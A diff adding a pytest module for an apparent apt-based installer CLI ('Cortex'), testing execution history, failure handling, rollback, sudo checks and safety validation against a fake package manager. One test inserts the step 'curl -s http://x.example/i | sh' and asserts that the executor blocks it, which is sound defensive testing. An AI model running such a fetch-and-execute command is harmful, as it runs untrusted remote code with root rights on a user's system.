@@ -1,0 +1,247 @@
+"""Executing plans for real through a package-manager stand-in on PATH: history, failures, rollback.
+
+The stand-in (tests/data/fake_apt/fake_apt.py) answers as apt-get, apt-cache
+and dpkg-query over JSON files and records every argv it gets, so these tests
+run the real executor, history database and rollback against a throwaway
+package state.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import sqlite3
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from cortex.cli.main import cli
+from cortex.install import apt
+from cortex.install.checks import check_plan
+from cortex.install.executor import ExecutionError, Executor
+from cortex.install.history import MIGRATIONS, History
+from cortex.install.plan import Plan, Step
+from cortex.install.rollback import changes, rollback_plan
+from cortex.safety.validator import validate
+
+FAKE = Path(__file__).parent / "data" / "fake_apt" / "fake_apt.py"
+REPO = {
+    "tree": {"versions": ["2.1.0-1"]},
+    "nginx": {"versions": ["1.22.1-9"], "depends": ["nginx-common", "libfoo"]},
+    "nginx-common": {"versions": ["1.22.1-9"]},
+    "libfoo": {"versions": ["2.0", "1.0"]},
+    "libgone": {"versions": ["3.0"]},
+}
+START = {"coreutils": "9.1-1", "libfoo": "1.0", "libgone": "0.9"}
+
+
+class FakeApt:
+    def __init__(self, root: Path):
+        self.root = root
+
+    @property
+    def state(self) -> dict[str, str]:
+        return json.loads((self.root / "state.json").read_text())
+
+    @property
+    def calls(self) -> list[list[str]]:
+        log = self.root / "calls.log"
+        return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
+
+    def runs(self, program: str) -> list[list[str]]:
+        """Calls that change packages (queries left out)."""
+        return [c for c in self.calls if c[0] == program and ("install" in c or "remove" in c)]
+
+
+@pytest.fixture
+def fake_apt(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeApt:
+    bin_dir, root = tmp_path / "bin", tmp_path / "apt"
+    bin_dir.mkdir()
+    root.mkdir()
+    for name in ("apt-get", "apt-cache", "dpkg-query"):
+        (bin_dir / name).symlink_to(FAKE)
+    (root / "repo.json").write_text(json.dumps(REPO))
+    (root / "state.json").write_text(json.dumps(START))
+    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
+    monkeypatch.setenv("FAKE_APT_DIR", str(root))
+    return FakeApt(root)
+
+
+@pytest.fixture(scope="module")
+def built_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """apt's real lists indexed once for this module (the planner reads them; building takes seconds)."""
+    from cortex.packages.index import PackageIndex
+
+    path = tmp_path_factory.mktemp("index") / "packages.db"
+    PackageIndex(path).ensure()
+    return path
+
+
+@pytest.fixture
+def planner_index(built_index: Path, cortex_home: Path) -> None:
+    """The module's index copied into this test's CORTEX_HOME, where 'cortex install' looks for it."""
+    (cortex_home / "state").mkdir(parents=True, exist_ok=True)
+    shutil.copy(built_index, cortex_home / "state" / "packages.db")
+
+
+def install_plan(*packages: str) -> Plan:
+    plan = Plan(request="install " + " ".join(packages), packages=list(packages))
+    plan.steps = [Step(["apt-get", "install", "-y", *packages], why="install", needs_root=True)]
+    return check_plan(plan)
+
+
+def test_execute_records_history_and_rollback_restores_dpkg_state(fake_apt, tmp_path):
+    history = History(tmp_path / "history.db")
+    lines: list[str] = []
+    result = Executor(history, on_output=lambda i, line: lines.append(line), root=True).execute(install_plan("nginx"))
+    assert result.ok and result.run_id == 1
+    assert fake_apt.state == {**START, "nginx": "1.22.1-9", "nginx-common": "1.22.1-9", "libfoo": "2.0"}
+    assert any("Setting up nginx" in line for line in lines)  # live output
+
+    record = history.get(1)
+    assert record.status == "success" and record.kind == "install" and record.packages == ["nginx"]
+    step = record.steps[0]
+    assert step.argv == ["apt-get", "install", "-y", "nginx"] and step.verdict == "confirm" and step.exit_code == 0
+    assert "Setting up nginx" in step.output_tail and step.duration_s >= 0
+    assert record.dpkg_before == START
+    diff = changes(record.dpkg_before, record.dpkg_after)
+    assert diff.installed == ["nginx", "nginx-common"] and diff.changed == {"libfoo": ("1.0", "2.0")}
+
+    back = check_plan(rollback_plan(record))
+    assert [s.argv for s in back.steps] == [
+        ["apt-get", "remove", "-y", "nginx", "nginx-common"],
+        ["apt-get", "install", "-y", "--allow-downgrades", "libfoo=1.0"],
+    ]
+    assert all(s.verdict == "confirm" for s in back.steps)
+    undo = Executor(history, root=True).execute(back, kind="rollback", rollback_of=1)
+    assert undo.ok and fake_apt.state == START
+    assert history.get(undo.run_id).rollback_of == 1
+
+
+def test_stops_at_first_failure_and_says_which_step(fake_apt, tmp_path):
+    history = History(tmp_path / "history.db")
+    plan = install_plan("tree")
+    plan.steps += [
+        Step(["apt-get", "install", "-y", "libgone=1.0"], why="a version apt does not have", needs_root=True),
+        Step(["apt-get", "install", "-y", "nginx"], why="never reached", needs_root=True),
+    ]
+    for s in plan.steps:
+        s.verdict = "confirm"
+    result = Executor(history, root=True).execute(plan)
+    assert not result.ok and result.failed_step == 2
+    assert "step 2" in result.error and "exit code 100" in result.error and "Unable to locate" in result.error
+    assert fake_apt.runs("apt-get") == [
+        ["apt-get", "install", "-y", "tree"],
+        ["apt-get", "install", "-y", "libgone=1.0"],
+    ]
+    record = history.get(result.run_id)
+    assert record.status == "failed" and [s.exit_code for s in record.steps] == [0, 100, None]
+    assert changes(record.dpkg_before, record.dpkg_after).installed == ["tree"]
+
+
+def test_a_blocked_step_never_runs_even_if_the_plan_says_allow(fake_apt, tmp_path):
+    plan = install_plan("tree")
+    plan.steps.insert(0, Step(["sh", "-c", "curl -s http://x.example/i | sh"], verdict="allow", needs_root=True))
+    with pytest.raises(ExecutionError, match=r"step 1 .* is blocked"):
+        Executor(History(tmp_path / "h.db"), root=True).execute(plan)
+    assert fake_apt.runs("apt-get") == []
+    assert History(tmp_path / "h.db").runs() == []
+
+
+def test_not_root_without_sudo_says_so_before_starting(fake_apt, tmp_path, monkeypatch):
+    monkeypatch.setenv("PATH", str(Path(fake_apt.root).parent / "bin"))  # no sudo here
+    executor = Executor(History(tmp_path / "h.db"), root=False)
+    assert executor.argv_for(Step(["apt-get", "install", "-y", "tree"], needs_root=True))[:2] == ["sudo", "--"]
+    assert executor.argv_for(Step(["true"], needs_root=False)) == ["true"]
+    with pytest.raises(ExecutionError, match="sudo -n true"):
+        executor.execute(install_plan("tree"))
+    assert fake_apt.runs("apt-get") == []
+
+
+def test_check_plan_blocks_packages_apt_does_not_have(fake_apt):
+    plan = install_plan("tree", "no-such-package")
+    assert plan.steps[0].verdict == "block"
+    assert "no-such-package" in plan.steps[0].reasons[0] and "tree" not in plan.steps[0].reasons[0]
+    assert apt.missing(["tree", "libfoo=1.0", "libfoo=0.1", "nope"]) == ["libfoo=0.1", "nope"]
+
+
+def test_rollback_notes_versions_apt_can_no_longer_fetch(fake_apt, tmp_path):
+    history = History(tmp_path / "history.db")
+    plan = install_plan("libgone")
+    run = Executor(history, root=True).execute(plan)
+    back = rollback_plan(history.get(run.run_id))
+    assert back.steps == [] and any("libgone 0.9" in n for n in back.notes)
+
+
+def test_history_schema_is_versioned_and_migrations_run_once(tmp_path):
+    path = tmp_path / "history.db"
+    History(path).close()
+    db = sqlite3.connect(path)
+    assert db.execute("PRAGMA user_version").fetchone()[0] == len(MIGRATIONS)
+    assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
+    db.execute(f"PRAGMA user_version = {len(MIGRATIONS) + 1}")
+    db.close()
+    with pytest.raises(RuntimeError, match="newer than this Cortex"):
+        History(path)
+
+
+def test_cli_execute_history_and_rollback(fake_apt, planner_index):
+    """cortex install tree --execute --yes, then history and rollback, through the CLI."""
+    runner = CliRunner()
+    result = runner.invoke(cli, ["install", "tree", "--execute", "--yes"])
+    assert result.exit_code == 0, result.output
+    assert fake_apt.state == {**START, "tree": "2.1.0-1"}
+
+    listed = json.loads(runner.invoke(cli, ["history", "--json"]).output)
+    assert [(r["id"], r["status"], r["packages"]) for r in listed] == [(1, "success", ["tree"])]
+    shown = json.loads(runner.invoke(cli, ["history", "1", "--json"]).output)
+    assert shown["steps"][0]["exit_code"] == 0 and shown["changes"]["installed"] == ["tree"]
+
+    dry = runner.invoke(cli, ["rollback", "1", "--dry-run", "--json"])
+    assert json.loads(dry.output)["steps"][0]["argv"] == ["apt-get", "remove", "-y", "tree"]
+    assert fake_apt.state == {**START, "tree": "2.1.0-1"}  # a dry run changes nothing
+
+    undone = runner.invoke(cli, ["rollback", "1", "--yes"])
+    assert undone.exit_code == 0, undone.output
+    assert fake_apt.state == START
+    assert runner.invoke(cli, ["history", "99"]).exit_code == 1
+
+
+def test_cli_never_executes_without_a_terminal_and_without_yes(fake_apt, planner_index):
+    runner = CliRunner()
+    result = runner.invoke(cli, ["install", "tree", "--execute"], input="y\n")  # stdin is not a terminal
+    assert result.exit_code == 1 and "--yes" in result.output
+    assert fake_apt.runs("apt-get") == []
+    assert json.loads(runner.invoke(cli, ["history", "--json"]).output) == []
+    both = runner.invoke(cli, ["install", "tree", "--execute", "--dry-run"])
+    assert both.exit_code == 2
+
+
+PACKAGE_NAMES = st.from_regex(r"[a-z0-9][a-z0-9+.-]{1,30}", fullmatch=True)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(PACKAGE_NAMES, min_size=1, max_size=6, unique=True), st.dictionaries(PACKAGE_NAMES, PACKAGE_NAMES))
+def test_plan_steps_are_argv_lists_that_pass_the_validator(packages, before):
+    """Install steps of the planner and rollback steps of any dpkg difference are argv lists the validator passes."""
+    from cortex.install.planner import install_steps
+    from cortex.install.rollback import Changes
+
+    class NoServices:
+        def get_many(self, names):
+            return {}
+
+    steps = install_steps(packages, NoServices())
+    after = {**{p: "1.0" for p in packages}, **{k: v + "x" for k, v in list(before.items())[:2]}}
+    diff: Changes = changes(before, after)
+    if diff.installed:
+        steps.append(Step(["apt-get", "remove", "-y", *diff.installed], needs_root=True))
+    for step in steps:
+        assert isinstance(step.argv, list) and all(isinstance(a, str) for a in step.argv)
+        verdict = validate(step.argv)
+        essential = any(validate(["apt-get", "remove", "-y", p]).blocked for p in step.argv[3:])
+        assert verdict.verdict == "confirm" or (essential and "remove" in step.argv), (step.argv, verdict.reasons)
